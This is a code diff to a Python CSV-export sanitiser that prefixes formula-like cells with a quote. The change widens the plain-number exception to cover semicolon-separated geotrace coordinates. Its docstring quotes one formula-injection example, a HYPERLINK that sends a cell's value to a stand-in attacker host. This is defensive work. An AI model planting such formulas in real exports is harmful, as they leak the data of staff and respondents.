@@ -4,8 +4,9 @@ A citizen's answer ``=HYPERLINK("http://evil.example/?x="&A2,"Click me")`` writt
 a CSV file becomes a live formula when a member of staff opens the file in Excel or LibreOffice.
 A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is therefore
 written with a single quote in front (``'=HYPERLINK(...)``), which spreadsheets show as text.
-Plain numbers (``-12``, ``+3.5``, ``-1e3``) are left alone: no spreadsheet reads them as a formula,
-and they must stay numbers. Exports for analysts who read the file with code take ``--raw``.
+Plain numbers (``-12``, ``+3.5``, ``-1e3``) and lists of them (a geotrace's points,
+``-1.29 36.82;-1.30 36.83``) are left alone: with no letter, quote or bracket they cannot call a
+function or name a cell, and they must stay as ODK writes them. Exports for analysts who read the file with code take ``--raw``.
 """
 
 from __future__ import annotations
@@ -15,7 +16,9 @@ from collections.abc import Iterable
 from typing import Any
 
 FORMULA_STARTS = frozenset("=+-@\t\r")
-_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+_NUMBER = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
+#: A number, or numbers separated by spaces and semicolons (geopoints, geotraces, geoshapes).
+_PLAIN_NUMBER = re.compile(rf"{_NUMBER}(?:[ ;]+{_NUMBER})*")
 
 
 def neutralised(value: Any) -> Any:
